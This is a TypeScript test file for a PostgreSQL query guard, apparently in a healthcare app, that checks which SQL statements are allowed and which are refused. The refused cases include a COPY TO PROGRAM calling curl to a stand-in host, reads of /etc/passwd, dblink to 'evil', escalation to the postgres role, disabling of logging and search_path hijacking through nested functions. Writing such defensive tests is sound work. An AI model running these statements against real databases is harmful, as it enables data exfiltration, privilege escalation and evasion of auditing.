import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { SQL_EXECUTING_FUNCTIONS } from './sql-executing-functions.js';
import { guardSql } from './sql-guard.js';

async function codeOf(sql: string): Promise<string> {
  const verdict = await guardSql(sql);
  return verdict.ok ? 'allowed' : verdict.code;
}

describe('SQL guard (PostgreSQL grammar)', () => {
  it('lets ordinary reads and writes through, every statement of a multi-statement query counted', async () => {
    for (const sql of [
      'select id, patient_id from encounters where id = $1',
      "select * from encounters e join patients p on p.id = e.patient_id where p.mrn = 'x'",
      'insert into notes (body) values ($1) returning id',
      'begin; update encounters set department = $1 where id = $2; commit',
      'copy (select id from encounters) to stdout',
      'set statement_timeout = 1000',
      "select current_setting('search_path')",
      // The three-tsquery ts_rewrite rewrites in memory; xpath reads its XML argument: neither runs SQL.
      "select ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)",
      "select xpath('/a/text()', '<a>x</a>'::xml)",
      "select query_to_xml_column from t where note = 'query_to_xml(''select 1'', true, false, '''')'",
      'prepare q as select 1; execute q; deallocate q',
      'declare c cursor with hold for select 1; fetch 1 from c; close c',
      'with x as (select 1) select * from x',
      'explain select 1',
    ]) {
      const verdict = await guardSql(sql);
      assert.equal(verdict.ok, true, `${sql}: ${JSON.stringify(verdict)}`);
    }
    assert.deepEqual(await guardSql('select 1; select 2'), { ok: true, statements: 2, relations: [] });
  });

  it('names the relations a statement reads, from the same parse, for the accounting of disclosures', async () => {
    const relations = async (sql: string) => {
      const v = await guardSql(sql);
      return v.ok ? v.relations : 'refused';
    };
    assert.deepEqual(
      await relations(
        'select p.mrn from public.Patients p, pg_catalog.pg_class c where exists (select 1 from encounters)',
      ),
      ['patients', 'encounters'],
    );
    assert.deepEqual(await relations('copy patients to stdout'), ['patients']);
    assert.deepEqual(await relations('update encounters set department = $1 returning patient_id'), [
      'encounters',
    ]);
    assert.deepEqual(await relations("select relname from pg_class where relname ~ '^patients$'"), [
      'pg_class',
    ]);
    assert.deepEqual(await relations('select 1; show work_mem; select now()'), []);
    // What a prepared statement or a cursor reads is not in the EXECUTE or FETCH: unknown, not "nothing".
    assert.equal(await relations('execute q'), undefined);
    assert.equal(await relations('fetch 10 from c'), undefined);
  });

  it('refuses what the issues list, and names the statement (ATTACKS 29–31)', async () => {
    const refused: [string, string][] = [
      ["copy encounters to program 'curl evil'", 'guard.copy-file'],
      ["copy encounters to '/tmp/out'", 'guard.copy-file'],
      ["copy encounters from '/etc/passwd'", 'guard.copy-file'],
      ['set role postgres', 'guard.set-role'],
      ['SET SESSION AUTHORIZATION postgres', 'guard.set-role'],
      ['reset role', 'guard.set-role'],
      ["select set_config('role', 'postgres', false)", 'guard.set-role'],
      ['select set_config($1, $2, false)', 'guard.set-config'],
      ["alter system set log_statement = 'none'", 'guard.alter-system'],
      ['create extension dblink', 'guard.create-extension'],
      ["create function f() returns int language sql as 'select 1'", 'guard.create-function'],
      ["create procedure p() language sql as 'select 1'", 'guard.create-function'],
      // PostgreSQL parses CREATE LANGUAGE without a handler as CREATE EXTENSION.
      ['create language plperlu', 'guard.create-extension'],
      ['create language plsample handler plsample_call_handler', 'guard.create-language'],
      ['do $$ begin perform 1; end $$', 'guard.do-block'],
      ["select pg_read_file('/etc/passwd')", 'guard.forbidden-function'],
      ["select * from pg_ls_dir('.')", 'guard.forbidden-function'],
      ["select lo_import('/etc/passwd')", 'guard.forbidden-function'],
      ["select lo_export(1, '/tmp/x')", 'guard.forbidden-function'],
      ["select * from dblink('host=evil', 'select 1') as t(x int)", 'guard.forbidden-function'],
      [
        "select id from encounters where exists (select pg_catalog.pg_read_file('x'))",
        'guard.forbidden-function',
      ],
      ['set search_path = public', 'guard.search-path'],
      ['SET LOCAL search_path TO public, "$user"', 'guard.search-path'],
      ['reset search_path', 'guard.search-path'],
      ["select set_config('search_path', 'public', false)", 'guard.search-path'],
      ['create temp table patients (id int)', 'guard.ddl'],
      ['create view v as select 1', 'guard.ddl'],
      ['select * into temp t from patients', 'guard.ddl'],
      ['create table t as select 1', 'guard.ddl'],
      ['explain analyze create table t as select 1', 'guard.ddl'],
      ['alter role current_user set search_path = public', 'guard.ddl'],
      ['drop view patients', 'guard.ddl'],
      ['create operator === (function = int4eq, leftarg = int, rightarg = int)', 'guard.ddl'],
      ['create schema s', 'guard.ddl'],
      ['create index on patients (ssn)', 'guard.ddl'],
      ['analyze patients', 'guard.ddl'],
      ["comment on table patients is 'x'", 'guard.ddl'],
      ['grant select on patients to public', 'guard.ddl'],
      ['call p()', 'guard.ddl'],
    ];
    for (const [sql, code] of refused) {
      const verdict = await guardSql(sql);
      assert.equal(verdict.ok, false, sql);
      assert.equal(verdict.ok ? '' : verdict.code, code, sql);
    }
    const multi = await guardSql('select 1; set role postgres; select 2');
    assert.deepEqual(multi.ok ? undefined : [multi.code, multi.statement], ['guard.set-role', 1]);
  });

  it('refuses functions that run SQL given as a value, and set_config, wherever the call sits (issue 12)', async () => {
    const inner = "'select set_config(''search_path'',''public'',false)'";
    const refused: [string, string][] = [
      // The two statements.
      [`SELECT query_to_xml(${inner}, true, false, '')`, 'guard.function-executes-sql'],
      [
        "select * from ts_stat('select to_tsvector(set_config(''search_path'',''public'',false))')",
        'guard.function-executes-sql',
      ],
      // Spellings: qualified, quoted, upper case, parameters instead of literals.
      [`select pg_catalog.query_to_xml(${inner}, true, false, '')`, 'guard.function-executes-sql'],
      [`select "query_to_xml"(${inner}, true, false, '')`, 'guard.function-executes-sql'],
      [`select PG_CATALOG.QUERY_TO_XML(${inner}, true, false, '')`, 'guard.function-executes-sql'],
      ['select query_to_xml($1, $2, $3, $4)', 'guard.function-executes-sql'],
      ["select ts_rewrite('a'::tsquery, 'select t, s from aliases')", 'guard.function-executes-sql'],
      ["select cursor_to_xml('c', 10, true, false, '')", 'guard.function-executes-sql'],
      ["select table_to_xml('patients', true, false, '')", 'guard.function-executes-sql'],
      ["select schema_to_xml('public', true, false, '')", 'guard.function-executes-sql'],
      ["select database_to_xml(true, false, '')", 'guard.function-executes-sql'],
      ["select * from crosstab('select 1, 2, 3') as t(a int, b int)", 'guard.function-executes-sql'],
      // Nested anywhere: WHERE, CTE, sub-select, another function's argument, VALUES, FROM, LATERAL, CASE, ORDER BY,
      // window, RETURNING, UPDATE's SET, INSERT … SELECT, COPY's query, PREPARE, DECLARE, EXPLAIN (ANALYZE).
      [
        `select 1 from encounters where query_to_xml(${inner}, true, false, '') is not null`,
        'guard.function-executes-sql',
      ],
      [
        `with x as (select query_to_xml(${inner}, true, false, '')) select * from x`,
        'guard.function-executes-sql',
      ],
      [`select (select (select query_to_xml(${inner}, true, false, '')))`, 'guard.function-executes-sql'],
      [`select length(query_to_xml(${inner}, true, false, '')::text)`, 'guard.function-executes-sql'],
      [`values (1, query_to_xml(${inner}, true, false, ''))`, 'guard.function-executes-sql'],
      [`select * from encounters, lateral ts_stat(${inner}) s`, 'guard.function-executes-sql'],
      [
        `select case when true then query_to_xml(${inner}, true, false, '') end`,
        'guard.function-executes-sql',
      ],
      [
        `select id from encounters order by query_to_xml(${inner}, true, false, '')::text`,
        'guard.function-executes-sql',
      ],
      [
        `select count(*) over (partition by ts_rewrite('a'::tsquery, ${inner})) from encounters`,
        'guard.function-executes-sql',
      ],
      [
        `insert into notes (body) values ('x') returning query_to_xml(${inner}, true, false, '')`,
        'guard.function-executes-sql',
      ],
      [
        `update notes set body = query_to_xml(${inner}, true, false, '')::text`,
        'guard.function-executes-sql',
      ],
      [
        `insert into notes (body) select query_to_xml(${inner}, true, false, '')::text`,
        'guard.function-executes-sql',
      ],
      [`copy (select query_to_xml(${inner}, true, false, '')) to stdout`, 'guard.function-executes-sql'],
      [`prepare q as select query_to_xml(${inner}, true, false, '')`, 'guard.function-executes-sql'],
      [`declare c cursor for select * from ts_stat(${inner})`, 'guard.function-executes-sql'],
      [`explain analyze select query_to_xml(${inner}, true, false, '')`, 'guard.function-executes-sql'],
      [`select 1; select query_to_xml(${inner}, true, false, '')`, 'guard.function-executes-sql'],
      // set_config, whatever it sets, wherever it is.
      ["select set_config('statement_timeout', '1000', false)", 'guard.set-config'],
      ["select pg_catalog.set_config('work_mem', '1GB', true)", 'guard.set-config'],
      ["select \"set_config\"(lower('SEARCH_PATH'), 'public', false)", 'guard.set-config'],
      [
        "select set_config(setting_name => 'search_path', new_value => 'public', is_local => false)",
        'guard.set-config',
      ],
      ["select SET_CONFIG('Search_Path', 'public', false)", 'guard.search-path'],
      [
        "select 1 from encounters where set_config('search_path', 'public', false) is not null",
        'guard.search-path',
      ],
      ["with x as (select set_config('application_name', 'x', false)) select * from x", 'guard.set-config'],
      ["select * from set_config('application_name', 'x', false)", 'guard.set-config'],
      ["prepare q as select set_config('search_path', 'public', false)", 'guard.search-path'],
      ["explain select set_config('search_path', 'public', false)", 'guard.search-path'],
      // CALL is refused as a statement kind before its arguments are looked at.
      [`call p(query_to_xml(${inner}, true, false, ''))`, 'guard.ddl'],
    ];
    for (const [sql, code] of refused) assert.equal(await codeOf(sql), code, sql);
  });

  it('refuses every function of the SQL-executing list by its name, in the form that runs SQL', async () => {
    for (const [name, entry] of SQL_EXECUTING_FUNCTIONS) {
      const args = Array.from({ length: entry.arguments ?? 1 }, () => 'null').join(', ');
      assert.equal(await codeOf(`select ${name}(${args})`), 'guard.function-executes-sql', name);
    }
  });

  it('refuses what it cannot parse', async () => {
    for (const sql of ['select from where', "select 'unterminated", '']) {
      const verdict = await guardSql(sql);
      if (sql === '') assert.deepEqual(verdict, { ok: true, statements: 0, relations: [] });
      else assert.equal(verdict.ok ? '' : verdict.code, 'guard.unparsable', sql);
    }
  });
});
